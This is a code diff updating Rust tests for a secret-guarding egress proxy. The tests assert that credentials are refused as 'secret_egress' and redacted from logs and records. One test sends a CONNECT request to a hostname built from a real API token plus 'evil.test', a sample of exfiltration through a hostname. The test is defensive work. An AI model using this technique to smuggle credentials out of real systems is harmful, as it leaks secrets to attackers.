@@ -805,12 +805,12 @@ async fn credential_in_a_connect_authority_is_refused_and_never_recorded() {
     let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
     assert_eq!(rec["host"], "[redacted]", "{rec}");
     assert!(!rec.to_string().contains(&api), "{rec}");
-    // Refused for another reason first (no credentials), the record still does not carry it.
+    // Without a token too: the leak is named before authentication, and not recorded.
     let (_tcp, resp) = connect_raw(kw.proxy_addr, &format!("{api}.evil.test:443"), None).await;
     kw.saw(&resp.text());
-    let (_, rec) = kw
-        .assert_denied_raw(&resp, 407, "missing_credentials")
-        .await;
+    let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
+    assert_eq!(rec["host"], "[redacted]", "{rec}");
+    assert_eq!(rec["task"], serde_json::Value::Null, "{rec}");
     assert!(!rec.to_string().contains(&api), "{rec}");
     assert_eq!(
         kw.metric("keyward_tls_leaf_certs_issued_total").await,
@@ -827,7 +827,8 @@ async fn keywards_own_errors_logs_and_records_carry_no_secret() {
         .mint("bot", json!(["plain.issues.read", "dead.ping"]))
         .await;
     let api = f.creds.api_token.clone();
-    // A real credential as the proxy token, as the task id, in a Bearer proxy credential.
+    // A real credential as the proxy token, as the task id, in a Bearer proxy credential: it
+    // failed authentication, and it is named as the leak it is.
     for auth in [
         basic(&task.id, &api),
         basic(&api, &task.token),
@@ -838,8 +839,8 @@ async fn keywards_own_errors_logs_and_records_carry_no_secret() {
             f.plain.port()
         );
         let resp = kw.raw(&req).await;
-        assert_eq!(resp.status, 407, "{}", resp.text());
-        kw.assert_denied_raw(&resp, 407, "invalid_token").await;
+        let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
+        assert_eq!(rec["credential"], "api_token", "{rec}");
     }
     // The task's own token where the credential goes: refused, never forwarded.
     let before = f.plain.hits();
